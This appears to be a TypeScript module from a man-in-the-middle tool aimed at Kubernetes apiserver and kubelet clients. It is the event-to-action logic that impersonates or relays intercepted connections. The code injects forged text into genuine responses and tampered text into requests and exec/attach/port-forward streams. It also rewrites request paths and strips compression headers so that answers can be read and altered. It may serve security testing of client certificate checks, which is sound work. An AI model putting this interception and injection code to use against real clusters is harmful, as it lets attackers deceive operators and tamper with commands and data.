import { asksForUpgrade, type HeaderList, headerValue } from '../wire/http-head';
import { isApiPath, readApiRequest } from './apiserver-request';
import { readKubeletRequest, tamperPath } from './kubelet-request';
import { AnswerScene } from './play-answer';
import { ApiScene } from './play-api';
import { PortForwardScene } from './play-port-forward';
import { type FixedRedirect, type RedirectPlaces, RedirectScene } from './play-redirect';
import { ShellScene } from './play-shell';
import type { Rule } from './rules';

/**
 * What the attacker does next. Events in, actions out; no socket, no clock, no key: the files that do the I/O report
 * what happened on one intercepted connection and carry out what comes back, in order.
 */

export type Upgrade = 'spdy' | 'websocket' | 'other';

export interface Script {
  readonly mode: 'impersonate' | 'relay';
  /** What the client is told instead of, or together with, the genuine answer. */
  readonly forged: string;
  /** What is slipped in among what the client sends, on the way to the genuine endpoint. */
  readonly tampered: string;
  /** Where clients are sent instead of being told anything. */
  readonly redirect?: RedirectPlaces | FixedRedirect;
  /** A relay that changes streams by rules slips nothing in by itself. */
  readonly rules?: readonly Rule[];
}

export interface RequestReceived {
  readonly kind: 'request-received';
  /** Numbers the requests of one connection. */
  readonly exchange: number;
  readonly method: string;
  /** With its query. */
  readonly path: string;
  readonly headers: HeaderList;
}

export interface StreamOpened {
  readonly kind: 'stream-opened';
  readonly exchange: number;
  readonly stream: number;
  /** Names in lower case. */
  readonly headers: Readonly<Record<string, string>>;
}

/** What happens inside an exchange after its request. */
export type ExchangeEvent =
  /** The whole body of the request is here; `body` is its beginning, at most 1 MiB. */
  | { readonly kind: 'request-finished'; readonly exchange: number; readonly body: Buffer }
  | StreamOpened
  | {
      readonly kind: 'stream-data';
      readonly exchange: number;
      readonly stream: number;
      readonly bytes: Buffer;
    }
  | { readonly kind: 'stream-finished'; readonly exchange: number; readonly stream: number };

export type PlayEvent =
  | { readonly kind: 'connection-accepted' }
  | { readonly kind: 'first-bytes-received'; readonly protocol: 'tls' | 'ssh' | 'plaintext' }
  | { readonly kind: 'handshake-finished'; readonly showedCertificate?: boolean }
  | { readonly kind: 'handshake-failed'; readonly alert: string | null }
  | RequestReceived
  | ExchangeEvent
  | { readonly kind: 'genuine-refused'; readonly text: string }
  | {
      readonly kind: 'genuine-answered';
      readonly exchange: number;
      /** Of the request. */
      readonly method: string;
      readonly status: number;
      readonly headers: HeaderList;
    };

/** What a scene may do with its exchange. */
export type SceneAction =
  | {
      readonly kind: 'answer';
      readonly exchange: number;
      readonly status: number;
      readonly headers: HeaderList;
      readonly body: string;
      /** Sends the head before the body, as for logs that are followed. */
      readonly streamed: boolean;
    }
  | {
      readonly kind: 'upgrade';
      readonly exchange: number;
      readonly to: 'spdy' | 'websocket';
      readonly streamProtocol: string;
      /** WebSocket only: what each channel number stands for; SPDY streams say it themselves. */
      readonly channels: readonly Readonly<Record<string, string>>[];
    }
  | { readonly kind: 'accept-stream'; readonly exchange: number; readonly stream: number }
  | { readonly kind: 'refuse-stream'; readonly exchange: number; readonly stream: number }
  | { readonly kind: 'write'; readonly exchange: number; readonly stream: number; readonly text: string }
  | { readonly kind: 'finish'; readonly exchange: number; readonly stream: number }
  | { readonly kind: 'end-session'; readonly exchange: number };

export type PlayAction =
  | { readonly kind: 'dial-genuine' }
  | { readonly kind: 'show-certificate' }
  /** What a victim asks to be connected to then is a connection of its own, with a play of its own. */
  | { readonly kind: 'show-host-key' }
  | { readonly kind: 'read-requests' }
  | { readonly kind: 'hang-up' }
  | SceneAction
  | {
      readonly kind: 'forward';
      readonly exchange: number;
      readonly path: string;
      readonly headers: HeaderList;
      /** Whether a body follows. */
      readonly body: boolean;
      /** For the body, null when nothing is slipped in. */
      readonly inject: string | null;
      /** `object`: the body is read whole and gets an annotation; `text`: something is slipped into what passes. */
      readonly as: 'object' | 'text';
    }
  | {
      readonly kind: 'pass-on';
      readonly exchange: number;
      readonly headers: HeaderList;
      /** Whether there is a body that could be changed. */
      readonly body: boolean;
      readonly inject: string | null;
    }
  | {
      readonly kind: 'forward-stream';
      readonly exchange: number;
      readonly stream: number;
      readonly injectUp: string | null;
      readonly injectDown: string | null;
    };

/** One exchange of an impersonation, from its request to its end. */
export interface Scene {
  begin(): SceneAction[];
  see(event: ExchangeEvent): SceneAction[];
}

const answersTo = { tls: 'show-certificate', ssh: 'show-host-key', plaintext: 'read-requests' } as const;

export class Play {
  readonly #script: Script;
  readonly #scenes = new Map<number, Scene>();
  #showedCertificate = false;

  constructor(script: Script) {
    this.#script = script;
  }

  /** Whether a relay slips in words of its own. */
  get #slips(): boolean {
    return this.#script.rules === undefined;
  }

  see(event: PlayEvent): PlayAction[] {
    switch (event.kind) {
      case 'connection-accepted':
        // At once, so that reaching the genuine endpoint and the victim's handshake take place at the same time.
        return this.#script.mode === 'relay' ? [{ kind: 'dial-genuine' }] : [];
      case 'first-bytes-received':
        return [{ kind: answersTo[event.protocol] }];
      case 'handshake-finished':
        this.#showedCertificate = event.showedCertificate === true;
        return [{ kind: 'read-requests' }];
      case 'handshake-failed':
      case 'genuine-refused':
        return [{ kind: 'hang-up' }];
      case 'request-received':
        return this.#script.mode === 'relay' ? [this.#forward(event)] : this.#begin(event);
      case 'genuine-answered':
        return [this.#passOn(event)];
      case 'stream-opened':
        return this.#script.mode === 'relay' ? [this.#forwardStream(event)] : this.#inScene(event);
      case 'request-finished':
      case 'stream-data':
      case 'stream-finished':
        return this.#inScene(event);
    }
  }

  /** The exchange is over: nothing more will be seen of it. */
  forget(exchange: number): void {
    this.#scenes.delete(exchange);
  }

  #begin(request: RequestReceived): PlayAction[] {
    const { redirect: to, forged } = this.#script;
    const scene =
      to === undefined
        ? sceneFor(request, forged)
        : new RedirectScene({ request, to, showedCertificate: this.#showedCertificate });
    this.#scenes.set(request.exchange, scene);
    return scene.begin();
  }

  #inScene(event: ExchangeEvent): PlayAction[] {
    return this.#scenes.get(event.exchange)?.see(event) ?? [];
  }

  #forward(request: RequestReceived): PlayAction {
    const { exchange, path, headers } = request;
    const upgrade = upgradeOf(headers);
    const withBody = upgrade === null && hasBody(headers);
    const slips = this.#slips;
    return {
      kind: 'forward',
      exchange,
      // What an apiserver is asked for by name and selector is answered, or refused, but never stored.
      path: withBody || isApiPath(path) || !slips ? path : tamperPath(path, this.#script.tampered),
      headers: headers.filter(([key]) => !isForOneHop(key, upgrade !== null) && !isCompressionOffer(key)),
      body: withBody,
      inject: withBody && slips ? this.#script.tampered : null,
      as: withBody && readApiRequest(path) !== null && !isProxied(path) ? 'object' : 'text',
    };
  }

  /** A refusal goes back as it is: to the victim the attacker then looks like the genuine endpoint with a bad day. */
  #passOn(answer: PlayEvent & { kind: 'genuine-answered' }): PlayAction {
    const { exchange, method, status, headers } = answer;
    const readable = headerValue(headers, 'content-encoding') === null;
    const succeeded = status >= 200 && status < 300;
    const withBody = method !== 'HEAD' && status !== 204 && headerValue(headers, 'content-length') !== '0';
    return {
      kind: 'pass-on',
      exchange,
      headers: headers.filter(([key]) => !isForOneHop(key, status === 101)),
      body: status !== 101 && withBody,
      inject: readable && succeeded && withBody && this.#slips ? this.#script.forged : null,
    };
  }

  #forwardStream(opened: StreamOpened): PlayAction {
    const type = opened.headers['streamtype'];
    return {
      kind: 'forward-stream',
      exchange: opened.exchange,
      stream: opened.stream,
      injectUp: this.#slips && (type === 'stdin' || type === 'data') ? this.#script.tampered : null,
      injectDown: this.#slips && (type === 'stdout' || type === 'data') ? this.#script.forged : null,
    };
  }
}

function sceneFor(request: RequestReceived, forged: string): Scene {
  if (isApiPath(request.path) || /^\/version(?:\?|$)/.test(request.path)) {
    return new ApiScene({ request, forged });
  }
  const wanted = readKubeletRequest(request.path);
  const upgrade = upgradeOf(request.headers);
  switch (wanted.kind) {
    case 'exec':
    case 'attach':
      if (upgrade === 'spdy' || upgrade === 'websocket') {
        return new ShellScene({ request, upgrade, streams: wanted.streams, forged });
      }
      return new AnswerScene({ request, forged, follow: false });
    case 'port-forward':
      if (upgrade === 'spdy' || upgrade === 'websocket') {
        return new PortForwardScene({ request, upgrade, ports: wanted.ports, forged });
      }
      return new AnswerScene({ request, forged, follow: false });
    case 'logs':
      return new AnswerScene({ request, forged, follow: wanted.follow });
    case 'other':
      return new AnswerScene({ request, forged, follow: false });
  }
}

/** A body that is meant for somebody behind the apiserver. */
function isProxied(path: string): boolean {
  return readApiRequest(path)?.subresource === 'proxy';
}

export function upgradeOf(headers: HeaderList): Upgrade | null {
  if (!asksForUpgrade(headers)) return null;
  const to = (headerValue(headers, 'upgrade') ?? '').toLowerCase();
  if (to.includes('spdy/3.1')) return 'spdy';
  return to === 'websocket' ? 'websocket' : 'other';
}

function hasBody(headers: HeaderList): boolean {
  if (headerValue(headers, 'transfer-encoding') !== null) return true;
  return Number(headerValue(headers, 'content-length') ?? 0) > 0;
}

/** RFC 9110 section 7.6.1: these speak about one connection only. An upgrade needs its two of them on both. */
function isForOneHop(key: string, upgrade: boolean): boolean {
  switch (key.toLowerCase()) {
    case 'connection':
    case 'upgrade':
      return !upgrade;
    case 'keep-alive':
    case 'proxy-connection':
    case 'transfer-encoding':
    case 'te':
    case 'trailer':
    case 'expect':
      return true;
    default:
      return false;
  }
}

/** Without these headers the genuine endpoint answers in clear, so that its answer can be read and changed. */
function isCompressionOffer(key: string): boolean {
  return ['accept-encoding', 'sec-websocket-extensions'].includes(key.toLowerCase());
}
